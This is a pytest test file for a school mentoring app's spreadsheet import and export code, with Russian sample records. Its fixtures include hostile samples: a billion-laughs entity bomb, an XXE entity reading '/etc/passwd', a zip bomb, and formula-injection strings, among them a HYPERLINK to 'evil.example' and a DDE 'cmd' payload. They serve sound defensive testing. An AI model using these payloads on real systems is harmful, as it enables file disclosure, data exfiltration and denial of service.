"""Reading school tables safely and writing exports that cannot run formulas."""

from __future__ import annotations

import datetime
import io
import os
import zipfile

import openpyxl
import pytest

from mentoring.people import spreadsheet
from mentoring.people.normalize import normalize_header
from mentoring.people.spreadsheet import SpreadsheetError, read_table, write_xlsx

KNOWN = frozenset(
    normalize_header(name) for name in ("ФИО", "Дата рождения", "Категория", "Класс", "Телефон")
)
LIMITS = {"max_rows": 100, "max_bytes": 5 * spreadsheet.MEGABYTE, "known_headers": KNOWN}


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def replace_member(data: bytes, name: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, content if item.filename == name else source.read(item.filename))
    return buffer.getvalue()


def test_title_rows_are_skipped_and_rows_are_numbered_as_excel_shows_them():
    data = xlsx(
        [
            ["Список наставляемых МБОУ Сеченовская СШ на 2021 год"],
            [],
            ["фио", "ДАТА РОЖДЕНИЯ:", "Категория"],
            ["Киселёва Дарья Андреевна", datetime.date(2012, 3, 4), "ученица"],
            [],
            ["Зуев Максим Ильич", "05.06.2011", "ученик"],
        ]
    )
    table = read_table(data, "база.xlsx", **LIMITS)
    assert table.header_row == 3
    assert table.headers == ["фио", "ДАТА РОЖДЕНИЯ:", "Категория"]
    assert table.rows == [
        (
            4,
            {
                "фио": "Киселёва Дарья Андреевна",
                "ДАТА РОЖДЕНИЯ:": datetime.date(2012, 3, 4),
                "Категория": "ученица",
            },
        ),
        (6, {"фио": "Зуев Максим Ильич", "ДАТА РОЖДЕНИЯ:": "05.06.2011", "Категория": "ученик"}),
    ]


def test_numbers_read_as_the_school_typed_them():
    data = xlsx([["ФИО", "Класс", "Телефон"], ["Зуев Максим", 11, 79101234567], ["Зуев Илья", 7.0, 5.5]])
    rows = read_table(data, "база.xlsx", **LIMITS).rows
    assert rows[0][1] == {"ФИО": "Зуев Максим", "Класс": "11", "Телефон": "79101234567"}
    assert rows[1][1]["Класс"] == "7"
    assert rows[1][1]["Телефон"] == "5.5"


def test_a_formula_is_never_evaluated_and_text_starting_with_equals_stays_text():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["ФИО", "Категория", "Класс"])
    sheet.append(["Зуев Максим", "=1+1", '=HYPERLINK("http://evil.example/")'])
    sheet["B2"].data_type = "f"  # a real formula, saved without a computed value
    sheet["C2"].data_type = "s"  # text that merely starts with «=»
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = read_table(buffer.getvalue(), "база.xlsx", **LIMITS).rows[0][1]
    assert "Категория" not in row
    assert row["Класс"] == '=HYPERLINK("http://evil.example/")'


def test_csv_in_windows_1251_with_semicolons_is_read():
    text = "Список участников\r\nФИО;Категория;Класс\r\nКиселёва Дарья;ученица;7А\r\n"
    table = read_table(text.encode("cp1251"), "база.csv", **LIMITS)
    assert table.header_row == 2
    assert table.rows == [(3, {"ФИО": "Киселёва Дарья", "Категория": "ученица", "Класс": "7А"})]


@pytest.mark.parametrize("delimiter", [",", "\t", ";"])
def test_csv_in_utf8_with_a_bom_and_any_delimiter_is_read(delimiter):
    text = delimiter.join(["ФИО", "Категория", "Класс"]) + "\n"
    text += delimiter.join(['"Зуев, Максим"', "ученик", "7 А"]) + "\n"
    table = read_table(("\ufeff" + text).encode("utf-8"), "база.csv", **LIMITS)
    assert table.rows == [(2, {"ФИО": "Зуев, Максим", "Категория": "ученик", "Класс": "7 А"})]


def test_the_active_sheet_is_read_first_and_another_sheet_with_the_header_is_found():
    workbook = openpyxl.Workbook()
    workbook.active.append(["Инструкция: заполните второй лист"])
    second = workbook.create_sheet("Участники")
    second.append(["ФИО", "Категория"])
    second.append(["Зуев Максим", "ученик"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(buffer.getvalue(), "база.xlsx", **LIMITS)
    assert table.sheet_title == "Участники"
    assert table.rows == [(2, {"ФИО": "Зуев Максим", "Категория": "ученик"})]


def test_a_table_without_a_recognisable_header_is_refused():
    with pytest.raises(SpreadsheetError, match="Не найдена строка с названиями столбцов"):
        read_table(xlsx([["Фамилия и всё остальное", "Что-то"], ["Зуев", "ученик"]]), "база.xlsx", **LIMITS)


def test_a_column_named_twice_is_refused():
    with pytest.raises(SpreadsheetError, match="«Класс» встречается в строке заголовков дважды"):
        read_table(xlsx([["ФИО", "Класс", "Класс"], ["Зуев Максим", "7А", "8Б"]]), "база.xlsx", **LIMITS)


# --- hostile files ---------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    with pytest.raises(SpreadsheetError, match="Файл пустой"):
        read_table(b"", "база.xlsx", **LIMITS)


def test_random_bytes_are_not_a_table():
    with pytest.raises(SpreadsheetError, match="не похож на таблицу"):
        read_table(os.urandom(4096).replace(b"PK", b"QK"), "база.xlsx", **LIMITS)


def test_a_program_renamed_to_xlsx_is_not_a_table():
    with pytest.raises(SpreadsheetError, match="не похож на таблицу"):
        read_table(b"MZ\x90\x00\x03" + b"\x00" * 200, "база.xlsx", **LIMITS)


def test_a_pdf_renamed_to_xlsx_is_named_as_a_pdf():
    with pytest.raises(SpreadsheetError, match="Это PDF-документ"):
        read_table(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "база.xlsx", **LIMITS)


def test_an_old_xls_or_a_password_protected_file_is_explained():
    ole = spreadsheet.OLE_SIGNATURE + b"\x00" * 4096
    with pytest.raises(SpreadsheetError) as raised:
        read_table(ole, "база.xlsx", **LIMITS)
    assert raised.value.message == (
        "Файл защищён паролем или сохранён в старом формате .xls: сохраните его как .xlsx без пароля."
    )


def test_a_word_document_renamed_to_xlsx_is_named_as_such():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    with pytest.raises(SpreadsheetError, match="Это документ Word"):
        read_table(buffer.getvalue(), "база.xlsx", **LIMITS)


def test_a_damaged_xlsx_is_refused_with_advice():
    data = replace_member(xlsx([["ФИО", "Категория"]]), "xl/workbook.xml", b"<workbook><not closed")
    with pytest.raises(SpreadsheetError, match="повреждён"):
        read_table(data, "база.xlsx", **LIMITS)


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    data = replace_member(
        xlsx([["ФИО", "Категория"]]), "xl/worksheets/sheet1.xml", b"\x00" * (20 * 1024 * 1024)
    )
    assert len(data) < 100_000
    with pytest.raises(SpreadsheetError, match="слишком большой объём"):
        read_table(data, "база.xlsx", **LIMITS)


def test_an_archive_unpacking_beyond_the_total_limit_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_UNCOMPRESSED_BYTES", 10_000)
    data = replace_member(xlsx([["ФИО", "Категория"]]), "docProps/app.xml", os.urandom(12_000))
    with pytest.raises(SpreadsheetError, match="слишком большой объём"):
        read_table(data, "база.xlsx", **LIMITS)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c><c r="B1" t="inlineStr"><is><t>&lol9;</t></is></c></row>
</sheetData></worksheet>""".encode()

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>
</sheetData></worksheet>"""


def test_an_xml_entity_bomb_inside_an_xlsx_is_refused():
    data = replace_member(xlsx([["ФИО", "Категория"]]), "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
    with pytest.raises(SpreadsheetError, match="опасные XML-конструкции"):
        read_table(data, "база.xlsx", **LIMITS)


def test_an_external_entity_inside_an_xlsx_is_refused():
    data = replace_member(xlsx([["ФИО", "Категория"]]), "xl/worksheets/sheet1.xml", EXTERNAL_ENTITY)
    with pytest.raises(SpreadsheetError, match="опасные XML-конструкции"):
        read_table(data, "база.xlsx", **LIMITS)


def test_an_entity_in_the_workbook_part_is_refused():
    workbook_xml = BILLION_LAUGHS.replace(b"<worksheet", b"<workbook").replace(
        b"</worksheet>", b"</workbook>"
    )
    data = replace_member(xlsx([["ФИО", "Категория"]]), "xl/workbook.xml", workbook_xml)
    with pytest.raises(SpreadsheetError, match="опасные XML-конструкции"):
        read_table(data, "база.xlsx", **LIMITS)


def test_more_rows_than_allowed_are_refused():
    data = xlsx([["ФИО", "Категория"], *[[f"Зуев Максим{n}", "ученик"] for n in range(101)]])
    with pytest.raises(SpreadsheetError, match="В файле больше 100 строк: разделите его на части"):
        read_table(data, "база.xlsx", **LIMITS)


def test_a_file_larger_than_allowed_is_refused_before_reading():
    with pytest.raises(SpreadsheetError, match="Файл больше 1 МБ"):
        read_table(
            b"PK\x03\x04" + b"\x00" * spreadsheet.MEGABYTE,
            "база.xlsx",
            **LIMITS | {"max_bytes": spreadsheet.MEGABYTE},
        )


def test_a_csv_with_a_huge_cell_is_refused_with_advice():
    text = 'ФИО;Категория\n"' + "а" * 200_000 + '";ученик\n'
    with pytest.raises(SpreadsheetError, match="слишком длинная ячейка"):
        read_table(text.encode(), "база.csv", **LIMITS)


def test_a_binary_file_named_csv_is_not_a_table():
    with pytest.raises(SpreadsheetError, match="не похож на таблицу"):
        read_table(b"\x00\x01\x02" * 100, "база.csv", **LIMITS)


# --- writing ------------------------------------------------------------------------------------------


def test_written_table_has_a_bold_frozen_header_dates_as_dates_and_sensible_widths():
    data = write_xlsx(
        ["ФИО", "Дата рождения"],
        [["Киселёва Дарья Андреевна", datetime.date(2012, 3, 4)]],
        sheet_title="Участники",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Участники"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["B2"].value == datetime.datetime(2012, 3, 4)
    assert sheet["B2"].number_format == "DD.MM.YYYY"
    assert 20 < sheet.column_dimensions["A"].width <= 60


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A2, "ссылка")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
    ],
)
def test_text_that_could_run_as_a_formula_is_written_with_a_quote_in_front(text):
    data = write_xlsx(["Примечания"], [[text]], sheet_title="Участники")
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text
    assert spreadsheet.unneutralize_formula(cell.value) == text


def test_phone_numbers_and_negative_numbers_are_written_unchanged():
    data = write_xlsx(["Телефон", "Число"], [["+7 (831) 234-56-78", -5]], sheet_title="Участники")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "+7 (831) 234-56-78"
    assert sheet["B2"].value == -5


def test_control_characters_are_dropped_instead_of_breaking_the_file():
    data = write_xlsx(["Примечания"], [["звонить\x07 после 15:00"]], sheet_title="Участники: [база]")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "звонить после 15:00"
    assert sheet.title == "Участники   база"


def test_preface_rows_go_above_the_frozen_header_and_the_reader_finds_the_header_below_them():
    data = write_xlsx(
        ["ФИО", "Категория"],
        [["Зуев Максим", "ученик"]],
        sheet_title="Шаблон",
        preface=[["Шаблон загрузки"], ["обязательно", "ученик, педагог..."]],
    )
    assert openpyxl.load_workbook(io.BytesIO(data)).active.freeze_panes == "A4"
    table = read_table(data, "шаблон.xlsx", **LIMITS)
    assert table.header_row == 3
    assert table.rows == [(4, {"ФИО": "Зуев Максим", "Категория": "ученик"})]


def test_workbooks_are_parsed_through_defusedxml_even_when_lxml_is_installed():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML
    assert not openpyxl.xml.LXML
